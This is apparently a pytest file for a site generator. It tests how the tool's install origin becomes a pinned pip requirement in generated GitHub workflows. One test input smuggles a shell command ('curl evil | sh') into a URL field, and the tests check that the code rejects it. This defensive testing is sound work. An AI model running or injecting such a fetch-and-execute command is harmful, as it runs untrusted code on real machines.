"""Where factcheck was installed from decides what a new site's workflows install (editors/origin.py)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml

from generator import cli
from generator.editors import origin
from generator.editors.origin import PLACEHOLDER, Origin, local_requirement_warning, origin_from, workflow_requirement

COMMIT = "0123456789abcdef0123456789abcdef01234567"


def record(**data: object) -> str:
    """A direct_url.json as pip writes it."""
    return json.dumps(data)


def test_a_package_from_an_index_is_pinned_to_its_version() -> None:
    assert origin_from(None, "1.2.0") == Origin("factcheck-ssg==1.2.0")


def test_a_git_install_is_pinned_to_the_commit_installed() -> None:
    made = origin_from(record(url="https://github.com/newsroom/factcheck", vcs_info={"vcs": "git", "commit_id": COMMIT, "requested_revision": "main"}), "1.2.0")
    assert made == Origin(f"factcheck-ssg @ git+https://github.com/newsroom/factcheck@{COMMIT}")


def test_an_archive_from_an_address_keeps_its_hash() -> None:
    url = "https://downloads.example.org/factcheck_ssg-1.2.0-py3-none-any.whl"
    made = origin_from(record(url=url, archive_info={"hash": "sha256=" + "a" * 64}), "1.2.0")
    assert made == Origin(f"factcheck-ssg @ {url}#sha256={'a' * 64}")


def test_a_git_install_from_a_subdirectory_keeps_it() -> None:
    made = origin_from(record(url="https://github.com/newsroom/tools", subdirectory="factcheck", vcs_info={"vcs": "git", "commit_id": COMMIT}), "1.2.0")
    assert made == Origin(f"factcheck-ssg @ git+https://github.com/newsroom/tools@{COMMIT}#subdirectory=factcheck")


@pytest.mark.parametrize(
    "data",
    [
        {"url": "file:///home/me/factcheck", "dir_info": {"editable": True}},
        {"url": "file:///home/me/factcheck_ssg-0.1.0-py3-none-any.whl", "archive_info": {}},
        {"url": "file:///home/me/factcheck", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
        {"url": "ssh://git@github.com/newsroom/factcheck.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},  # CI has no key
        {"url": "https://github.com/newsroom/factcheck", "vcs_info": {"vcs": "git", "commit_id": "main"}},  # a branch moves
        {"url": "http://downloads.example.org/factcheck.whl", "archive_info": {"hash": "sha256=" + "a" * 64}},  # plain http
        {"url": "https://downloads.example.org/factcheck.whl", "archive_info": {}},  # no hash to check it by
        {"url": 'https://example.org/x"; curl evil | sh', "archive_info": {"hash": "sha256=" + "a" * 64}},  # not writable into the shell line
        {"url": "https://example.org/\x1b[31mred", "archive_info": {}},
        {"url": "https://bot:ghp_token@github.com/newsroom/factcheck", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},  # a credential
        {"vcs_info": {}},
    ],
)
def test_anything_ci_cannot_install_gets_a_placeholder_that_fails_and_a_warning(data: dict[str, object]) -> None:
    """Never the PyPI name, which is not ours yet: whoever registered it would have their code run by the site's CI."""
    made = origin_from(json.dumps(data), "1.2.0")
    assert made.requirement == PLACEHOLDER == "factcheck-ssg @ git+https://github.com/ORG/REPO@TAG"
    assert "which the site's GitHub workflows cannot install" in made.warning and "--requirement" in made.warning
    assert "\x1b" not in made.warning and "ghp_token" not in made.warning


def test_an_unreadable_record_gets_the_placeholder_too() -> None:
    assert origin_from("{not json", "1.2.0").requirement == PLACEHOLDER


@pytest.mark.parametrize("given", ["/home/me/factcheck", "./factcheck", "~/src/factcheck", "factcheck-ssg @ file:///home/me/factcheck", "C:\\src\\factcheck"])
def test_a_requirement_naming_a_local_path_is_warned_about(given: str) -> None:
    assert "names a path on this machine" in local_requirement_warning(given)
    assert workflow_requirement(given) == Origin(given, local_requirement_warning(given))


def test_a_requirement_naming_a_repository_is_taken_as_given() -> None:
    given = "factcheck-ssg @ git+https://github.com/newsroom/factcheck@v1.2.0"
    assert workflow_requirement(given) == Origin(given)


def test_init_writes_where_factcheck_came_from_into_the_workflows(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    git = record(url="https://github.com/newsroom/factcheck", vcs_info={"vcs": "git", "commit_id": COMMIT})
    monkeypatch.setattr(origin, "installed_origin", lambda version: origin_from(git, version))
    assert cli.main(["init", str(tmp_path / "s"), "-q"]) == 0
    assert capsys.readouterr().err == ""
    for workflow in ("check.yml", "pages.yml"):
        text = (tmp_path / "s/.github/workflows" / workflow).read_text(encoding="utf-8")
        assert f'pip install "factcheck-ssg @ git+https://github.com/newsroom/factcheck@{COMMIT}"' in text


def test_init_from_a_local_copy_warns_that_ci_cannot_install_it(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    local = record(url="file:///home/me/factcheck", dir_info={"editable": True})
    monkeypatch.setattr(origin, "installed_origin", lambda version: origin_from(local, version))
    assert cli.main(["init", str(tmp_path / "s")]) == 0
    err = capsys.readouterr().err
    assert err.startswith("warning: this factcheck was installed from file:///home/me/factcheck, which the site's GitHub workflows cannot install")
    assert f'pip install "{PLACEHOLDER}"' in (tmp_path / "s/.github/workflows/pages.yml").read_text(encoding="utf-8")
    assert cli.main(["init", str(tmp_path / "t"), "--requirement", "/home/me/factcheck"]) == 0
    assert "names a path on this machine" in capsys.readouterr().err


@pytest.mark.parametrize("given", ["factcheck-ssg @ https://x.example/a.zip #sha", "factcheck-ssg: x", "factcheck-ssg @ git+https://x.example/r.git@v1 # note"])
def test_the_workflows_stay_valid_yaml_with_any_writable_requirement(tmp_path: Path, given: str) -> None:
    """The pip line is one YAML string whatever the requirement holds (' #' would start a comment, ': ' a mapping)."""
    assert cli.main(["init", str(tmp_path / "s"), "--requirement", given, "-q"]) == 0
    for workflow in ("check.yml", "pages.yml"):
        loaded = yaml.safe_load((tmp_path / "s/.github/workflows" / workflow).read_text(encoding="utf-8"))
        runs = [step.get("run") for job in loaded["jobs"].values() for step in job["steps"]]
        assert f'pip install "{given}"' in runs
